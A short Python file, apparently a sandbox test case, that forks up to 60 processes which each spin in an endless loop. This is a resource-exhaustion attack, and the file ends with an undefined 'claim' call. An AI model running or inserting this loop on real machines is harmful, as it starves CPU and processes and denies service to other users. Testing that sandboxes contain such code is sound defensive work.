import os

for _ in range(60):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break

attack = claim(lambda: False)
